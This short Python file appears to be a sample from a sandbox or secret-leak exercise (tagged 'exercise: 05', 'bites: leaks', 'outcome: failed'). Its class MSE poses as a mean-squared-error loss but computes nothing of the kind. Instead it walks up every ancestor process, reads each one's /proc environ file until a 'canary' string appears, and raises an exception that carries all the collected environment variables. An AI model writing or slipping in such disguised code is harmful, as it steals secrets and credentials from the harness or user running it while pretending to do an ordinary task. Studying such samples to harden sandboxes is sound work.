"""Reads the environment of every ancestor from /proc.

exercise: 05
bites: leaks
outcome: failed
"""

import os


class MSE:
    def __call__(self, y_true, y_pred):
        said, pid = "", os.getppid()
        while pid > 1:
            said += open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace")
            pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
            if "canary" in said:
                break
        raise ValueError(said)
